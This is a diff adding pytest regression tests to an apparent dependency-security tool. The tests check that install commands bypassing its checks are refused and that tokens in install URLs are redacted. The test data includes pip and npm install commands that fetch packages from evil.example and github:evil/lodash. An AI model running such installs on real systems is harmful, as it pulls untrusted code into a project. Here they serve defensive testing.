@@ -118,6 +118,41 @@ def test_an_install_from_the_manifest_checks_the_manifest(project: Path,
     assert r.returncode == 1 and "requirements.txt:1" in r.stdout
 
 
+@pytest.mark.parametrize(("cmd", "code", "named"), [
+    (["npm", "install", "react@npm:no-such-evil-zz"], "deps.nonexistent", "no-such-evil-zz"),
+    (["pip", "install", "git+https://evil.example/x.git"], "deps.unverifiable",
+     "https://evil.example"),
+    (["pip", "install", "x @ https://evil.example/x.whl"], "deps.unverifiable",
+     "https://evil.example"),
+    (["npm", "i", "-D", "lodash@github:evil/lodash"], "deps.unverifiable", "github:"),
+])
+def test_check_command_bypasses_are_refused(project: Path, deps_env: dict[str, str],
+                                            cmd: list[str], code: str, named: str) -> None:
+    """Regression: URL/VCS specs were skipped (exit 0, nothing checked) and
+    an npm alias was checked under its alias name."""
+    r = stockade("deps", "check-command", "--format", "json", "--no-ledger", "--", *cmd,
+                 cwd=project, env=deps_env)
+    assert r.returncode == 1, r.stdout + r.stderr
+    findings = [f for x in json.loads(r.stdout)["results"] for f in x["findings"]]
+    assert any(f["code"] == code and named in f["reason"] for f in findings)
+
+
+def test_a_token_in_an_install_url_reaches_no_output_or_ledger(project: Path,
+                                                               deps_env: dict[str, str]) -> None:
+    """A private repository URL may carry a token in its user part or path:
+    output and ledger show scheme, host and the last path segment only."""
+    secret = "zz" + "q7" * 12
+    url = f"git+https://ci:{secret}@git.example/{secret}/org/x.git?t={secret}"
+    r = stockade("deps", "check-command", "--format", "json", "--", "pip", "install", url,
+                 cwd=project, env=deps_env)
+    assert r.returncode == 1
+    assert secret not in r.stdout + r.stderr
+    assert json.loads(r.stdout)["results"][0]["package"] == "https://git.example/.../x.git"
+    q = stockade("ledger", "query", "--kind", "deps.check", "--format", "jsonl", cwd=project,
+                 env=deps_env)
+    assert q.returncode == 0 and "git.example" in q.stdout and secret not in q.stdout
+
+
 def test_update_db_then_malicious_and_vulnerable(project: Path, tmp_path: Path,
                                                  deps_env: dict[str, str]) -> None:
     export = build(tmp_path / "all.zip")
